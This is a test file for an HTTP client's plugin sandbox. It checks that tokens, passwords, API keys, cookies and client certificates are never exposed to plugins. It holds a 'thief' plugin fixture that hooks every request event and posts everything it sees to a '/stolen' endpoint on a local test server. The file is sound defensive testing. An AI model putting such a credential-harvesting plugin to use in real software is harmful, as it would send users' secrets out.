import { expect, test } from "bun:test";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { type Hit, type ServerScript, startServer } from "../support/loopback-server.ts";
import { runCli } from "../support/run-cli.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";

// A plugin and the main request: what identifies the user is put on after the hooks, and what a plugin
// has got for itself stays its own.

/** A folder with the files of a test, its own home in it. */
function placeOf(files: Readonly<Record<string, string>>) {
  const { path, [Symbol.dispose]: dispose } = temporaryFolder();
  const home = join(path, "home");
  mkdirSync(home);
  for (const [name, text] of Object.entries(files)) {
    writeFileSync(join(path, name), text, { mode: 0o600 });
  }
  const run = (argv: readonly string[]) => runCli(argv, { target: "binary", home, cwd: path });
  return { path, run, [Symbol.dispose]: dispose };
}

const EVENTS = ["pre_request", "pre_attempt", "post_attempt", "pre_retry", "post_request", "error"];

/** Returns a plugin that sends all it is shown to the server. */
function thief(base: string): string {
  return `export const plugin = { name: "thief", capabilities: ["rewrite"], net: ["${new URL(base).host}"] };
for (const name of ${JSON.stringify(EVENTS)}) {
  weir.on(name, async (event, ctx) => {
    const more = { lists: event.headers_all, request: event.request, store: ctx.store.keys() };
    await http.post("${base}/stolen", { body: [name, { ...event }, more, { ...ctx }] });
    await http.get("${base}/main-as-thief");
  });
}
`;
}

const CONFIG = `[keychain.bearer]
kind = "bearer"
token = "literal:s3cret-value"
[keychain.basic]
kind = "basic"
user = "ada"
password = "literal:s3cret-value"
[keychain.lines]
kind = "header"
headers = { X-One = "literal:s3cret-value" }
[keychain.key]
kind = "api_key"
key = "literal:s3cret-value"
[keychain.parameter]
kind = "api_key"
key = "literal:s3cret-value"
query = "key"
`;

const SECRET = "s3cret-value";
const IN_BASIC = btoa(`ada:${SECRET}`);

interface Row {
  readonly name: string;
  readonly argv: readonly string[];
  /** What is in the main request, and in nothing that a plugin is shown or sends. */
  readonly secret: string;
  readonly url?: (base: string) => string;
  readonly isFailing?: boolean;
}

const MAIN = (base: string): string => `${base}/main`;

const ROWS: readonly Row[] = [
  { name: "the password of --auth", argv: ["-a", `ada:${SECRET}`], secret: IN_BASIC },
  { name: "a bearer token", argv: ["-A", "bearer", "-a", SECRET], secret: SECRET },
  {
    name: "the answer to a digest challenge",
    argv: ["-A", "digest", "-a", `ada:${SECRET}`],
    secret: 'username="ada"',
    url: (base) => `${base}/digest`,
  },
  {
    name: "user and password of the URL",
    argv: [],
    secret: IN_BASIC,
    url: (base) => MAIN(base.replace("//", `//ada:${SECRET}@`)),
  },
  { name: "a token of the keychain", argv: ["-a", "@bearer"], secret: SECRET },
  { name: "a password of the keychain", argv: ["-a", "@basic"], secret: IN_BASIC },
  { name: "header lines of the keychain", argv: ["-a", "@lines"], secret: SECRET },
  { name: "an API key in a header", argv: ["-a", "@key"], secret: SECRET },
  { name: "an API key in the query", argv: ["-a", "@parameter"], secret: `key=${SECRET}` },
  {
    name: "an API key in the query of a redirect",
    argv: ["-a", "@parameter", "--follow"],
    secret: `key=${SECRET}`,
    url: (base) => `${base}/moved`,
  },
  {
    name: "the credential of a request that fails",
    argv: ["-a", `ada:${SECRET}`, "--retry", "1", "--retry-delay", "1ms"],
    secret: IN_BASIC,
    url: (base) => `${base}/broken`,
    isFailing: true,
  },
  {
    name: "the credential of a request that is sent again",
    argv: ["-a", "@parameter", "--retry", "1", "--retry-delay", "1ms", "--no-check-status"],
    secret: `key=${SECRET}`,
    url: (base) => `${base}/busy`,
  },
  { name: "a cookie of the session", argv: ["--session", "./s.json"], secret: "sid=c00kie" },
  {
    name: "a cookie of a redirect",
    argv: ["--follow"],
    secret: "sid=c00kie",
    url: (base) => `${base}/moved`,
  },
];

const COOKIE = { "Set-Cookie": "sid=c00kie; Path=/" };

const SCRIPT: ServerScript = {
  hits: "any",
  routes: {
    "/stolen": {},
    "/main-as-thief": {},
    "/main": { headers: COOKIE },
    "/moved": { status: 302, headers: { Location: "/main", ...COOKIE } },
    "/busy": { status: 503 },
    "/broken": (_hit, response) => void response.destroy(),
    "/digest": (hit) =>
      hit.header("authorization") === undefined
        ? {
            status: 401,
            headers: { "WWW-Authenticate": 'Digest realm="r", nonce="n", qop="auth"' },
          }
        : {},
  },
};

/** Returns everything of requests that a secret could stand in. */
function wholeOf(hits: readonly Hit[]): string {
  return hits
    .map(({ target, headers, text }) => `${target}\n${headers.join("\n")}\n${text}`)
    .join();
}

test.each(ROWS)("a plugin is not shown $name, and does not send it", async (row) => {
  using server = await startServer(SCRIPT);
  using place = placeOf({ "thief.js": thief(server.url), "weir.toml": CONFIG });
  const { argv, secret, url = MAIN, isFailing = false } = row;
  const flags = ["--config", "weir.toml", "--plugin", "./thief.js", ...argv];
  // Twice: a session gives in the second run what it got in the first.
  for (let run = 0; run < 2; run += 1) {
    const { exit, stderr } = await place.run([...flags, "get", url(server.url)]);
    // Neither the hooks nor what they send may have failed: they would have shown nothing then.
    expect(stderr).not.toContain("thief");
    expect(exit !== 0).toBe(isFailing);
  }
  const isPlugins = ({ path }: Hit): boolean => path === "/stolen" || path === "/main-as-thief";
  expect(wholeOf(server.hits.filter((hit) => !isPlugins(hit)))).toContain(secret);
  const plugins = server.hits.filter(isPlugins);
  expect(plugins.length).toBeGreaterThanOrEqual(8);
  expect(wholeOf(plugins)).not.toContain(secret);
  expect(wholeOf(plugins)).not.toContain(SECRET);
});

const GIVER = (base: string): string => `export const plugin = {
  name: "giver", capabilities: ["rewrite", "respond"], net: ["${new URL(base).host}"],
};
weir.on("pre_request", async (event) => {
  const client = http.client({ headers: { "x-own": "given" }, auth: { bearer: "given" } });
  for (const one of [http, client]) for (let at = 0; at < 2; at++) await one.get("${base}/login");
  if (event.url.endsWith("/answered")) {
    return { respond: { headers: { "set-cookie": "answer=given; Path=/" }, body: "" } };
  }
  event.headers["x-added"] = "given";
  return event;
});
weir.on("post_request", (event) => {
  event.headers["set-cookie"] = "added=given; Path=/";
  return event;
});
`;

test("what a plugin has got, adds or answers is in no later request, nor in the session", async () => {
  using server = await startServer({
    hits: "any",
    routes: {
      "/login": { headers: { "Set-Cookie": "sid=given; Path=/" } },
      "/main": { headers: { "Set-Cookie": "sid=main; Path=/" } },
    },
  });
  using place = placeOf({ "giver.js": GIVER(server.url) });
  const session = ["--session", "./s.json"];
  const plugin = ["--plugin", "./giver.js"];
  for (const argv of [
    [...session, ...plugin, "get", `${server.url}/answered`],
    [...session, ...plugin, "get", `${server.url}/main`],
    [...session, "get", `${server.url}/main`],
  ]) {
    expect(await place.run(argv)).toMatchObject({ exit: 0, stderr: "" });
  }
  const main = server.hits.filter(({ path }) => path === "/main");
  const names = ["cookie", "authorization", "x-own", "x-added"];
  expect(main.map((hit) => names.map((name) => hit.header(name)))).toEqual([
    [undefined, undefined, undefined, "given"],
    ["sid=main", undefined, undefined, undefined],
  ]);
  // They were there to be given away.
  const own = wholeOf(server.hits.filter(({ path }) => path === "/login"));
  for (const text of ["sid=given", "Bearer given", "x-own,given"]) expect(own).toContain(text);
  expect(readFileSync(join(place.path, "s.json"), "utf8")).not.toContain("given");
});

test("the credentials of a script are not shown to a plugin around it", async () => {
  using server = await startServer(SCRIPT);
  const { host } = new URL(server.url);
  using place = placeOf({
    "thief.js": thief(server.url),
    "main.js": `const [base] = args;
for (const auth of [{ user: "ada", password: "${SECRET}" }, { bearer: "${SECRET}" }]) {
  const client = http.client({ baseUrl: base, auth });
  await client.get("/moved");
  await new http.Client({ auth }).get(base + "/main").send();
}
`,
  });
  const argv = ["exec", "--plugin", "./thief.js", "--allow-net", host, "main.js", server.url];
  expect(await place.run(argv)).toMatchObject({ exit: 0, stderr: "" });
  const main = server.hits.filter(({ path }) => path === "/main" || path === "/moved");
  const dressed = main.map((hit) => [hit.header("authorization"), hit.header("cookie")]);
  const wanted = [`Basic ${IN_BASIC}`, `Bearer ${SECRET}`].flatMap((line) => [
    [line, undefined],
    [line, "sid=c00kie"],
    [line, undefined],
  ]);
  expect(dressed).toEqual(wanted);
  const stolen = wholeOf(server.hits.filter(({ path }) => path === "/stolen"));
  expect(stolen).toContain("/main");
  for (const secret of [SECRET, IN_BASIC, "c00kie"]) expect(stolen).not.toContain(secret);
});

test("the credentials of a script do not go where a plugin leads its request", async () => {
  using server = await startServer({ replies: [{}] });
  using other = await startServer({ replies: [{}] });
  using place = placeOf({
    "leader.js": `export const plugin = { name: "leader", capabilities: ["rewrite"] };
weir.on("pre_request", (event) => {
  if (event.url.endsWith("/away")) event.url = "${other.url}/";
  return event;
});
`,
    "main.js": `const client = http.client({ baseUrl: args[0], auth: { bearer: "${SECRET}" } });
for (const path of ["/here", "/away"]) print((await client.get(path)).status);
`,
  });
  const hosts = [server, other].map(({ url }) => new URL(url).host).join();
  const argv = ["exec", "--plugin", "./leader.js", "--allow-net", hosts, "main.js", server.url];
  expect(await place.run(argv)).toMatchObject({ exit: 0, stderr: "200\n200\n" });
  expect(server.hits[0]?.header("authorization")).toBe(`Bearer ${SECRET}`);
  expect(other.hits[0]?.header("authorization")).toBeUndefined();
});

/** Returns a plugin that asks `url` before the main request, and says what came. */
function asker(url: string): string {
  return `export const plugin = { name: "asker", net: ["${new URL(url).host}"] };
weir.on("pre_request", async () => {
  const { status, error_code } = await http.get("${url}/own");
  log.info(status, error_code ?? "-");
});
`;
}

test("a plugin does not show the client certificate of the user", async () => {
  const folder = join(import.meta.dir, "../../fixtures/certificates");
  const pem = (name: string): string => readFileSync(join(folder, `${name}.pem`), "utf8");
  const identity = { cert: pem("server"), key: pem("server.key"), ca: pem("client-authority") };
  using server = await startServer({
    routes: { "/main": {} },
    tls: { ...identity, requestCert: true, rejectUnauthorized: true },
  });
  using place = placeOf({ "asker.js": asker(server.url) });
  const file = (name: string): string => join(folder, `${name}.pem`);
  const tls = ["--verify", file("authority"), "--cert", file("client")];
  const argv = [...tls, "--cert-key", file("client.key"), "--plugin", "./asker.js"];
  const result = await place.run([...argv, "get", `${server.url}/main`]);
  expect(result).toMatchObject({ exit: 0, stderr: "asker: 0 tls\n" });
});

test("a plugin does not go through the socket of the user", async () => {
  using server = await startServer({ routes: { "/own": {} } });
  using place = placeOf({ "asker.js": asker(server.url) });
  const path = join(place.path, "s");
  const asked: (string | undefined)[] = [];
  const local = createServer((request, response) => {
    asked.push(request.url);
    response.end();
  }).listen(path);
  try {
    const argv = ["--unix-socket", path, "--plugin", "./asker.js", "get", `${server.url}/main`];
    expect(await place.run(argv)).toMatchObject({ exit: 0, stderr: "asker: 200 -\n" });
  } finally {
    local.close();
  }
  expect(asked).toEqual(["/main"]);
});
